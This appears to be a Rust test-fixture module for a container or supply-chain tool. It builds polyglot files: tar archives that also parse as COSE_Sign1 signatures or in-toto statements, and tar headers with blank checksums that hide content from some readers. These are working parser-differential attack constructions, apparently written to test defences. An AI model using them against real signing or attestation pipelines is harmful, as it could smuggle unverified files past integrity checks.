//! Archives that are also valid in another format: attacks on code that assumes that bytes have only one meaning.

use super::layer::Tree;

/// The size of a tar block, in bytes.
const BLOCK: usize = 512;

/// A tar header in Unix v7 format with a blank checksum. Go's reader treats blank as 0, and accepts the header if its
/// bytes sum to 0 as signed numbers; the unused part of the block is filled to achieve that.
///
/// # Panics
/// The name is longer than 100 bytes.
pub fn blank_header(name: &[u8], size: usize) -> [u8; BLOCK] {
    let mut block = [0; BLOCK];
    block[..name.len()].copy_from_slice(name);
    assert!(name.len() <= 100, "a v7 name has at most 100 bytes");
    for (at, field) in [(100, "0000755"), (108, "0000000"), (116, "0000000"), (136, "00000000000"), (148, "        ")] {
        block[at..at + field.len()].copy_from_slice(field.as_bytes());
    }
    block[124..135].copy_from_slice(format!("{size:011o}").as_bytes());
    block[156] = b'0';
    let mut sum: i32 = block.iter().map(|byte| i32::from(byte.cast_signed())).sum();
    for byte in &mut block[300..] {
        let step = sum.clamp(-127, 128);
        *byte = 0_u8.wrapping_sub(step.to_le_bytes()[0]);
        sum -= step;
    }
    block
}

/// A COSE_Sign1 (RFC 9052) that Go's tar reader unpacks to a file with this name and content: the name in the first
/// header is the head of the CBOR, and the archive is its payload.
///
/// # Panics
/// The content is longer than a two-byte length can express.
pub fn cose_and_tar(name: &str, content: &[u8]) -> Vec<u8> {
    let mut payload = vec![0; BLOCK];
    payload.extend_from_slice(&blank_header(name.as_bytes(), content.len()));
    payload.extend_from_slice(content);
    payload.resize(payload.len().next_multiple_of(BLOCK) + 2 * BLOCK, 0);
    // 18([h'a10126', {}, payload, h'00']); the payload starts after ten bytes.
    let length = u16::try_from(payload.len() - HEAD).expect("the caller passes small content");
    let head = [&[0xd2, 0x84, 0x43, 0xa1, 0x01, 0x26, 0xa0, 0x59][..], &length.to_be_bytes()].concat();
    payload[..BLOCK].copy_from_slice(&blank_header(&head, 0));
    payload.extend_from_slice(&[0x41, 0]);
    payload
}

/// The number of bytes of a COSE_Sign1 before its payload.
const HEAD: usize = 10;

/// An in-toto statement in strict JSON that tar readers unpack to a file with `content`, which must not contain a
/// quote. Its headers have valid checksums and no NUL.
pub fn statement_and_tar(name: &str, content: &str) -> Vec<u8> {
    let head = r#"{"_type":"https://in-toto.io/Statement/v1","subject":[],"predicateType":"x","predicate":{"a":""#;
    let tail = "\"}}";
    let mut body = content.to_owned();
    body.push_str(&" ".repeat((content.len() + tail.len()).next_multiple_of(BLOCK) - content.len() - tail.len()));
    body.push_str(tail);
    // A long name that ends in the file name: the field has no room for a terminator.
    let path = format!("{}{name}", "./".repeat(50));
    let path = &path[path.len() - 100..];
    [text_header(&format!("{head:n<100}"), 0), text_header(path, body.len()), body.into_bytes()].concat()
}

/// A v7 header consisting of printable characters.
fn text_header(name: &str, size: usize) -> Vec<u8> {
    let mut block = format!("{name}0000755 0000000 0000000 {size:011o} 00000000000         0").into_bytes();
    block.resize(BLOCK, b'l');
    let sum: u32 = block.iter().map(|byte| u32::from(*byte)).sum();
    block[148..156].copy_from_slice(format!("{sum:07o} ").as_bytes());
    block
}

/// A tree after a header with a blank checksum, which hides it from readers that do not accept such a header.
pub fn behind_a_blank_header(tree: &Tree) -> Vec<u8> {
    [&blank_header(b"x", 0)[..], &tree.to_tar()].concat()
}
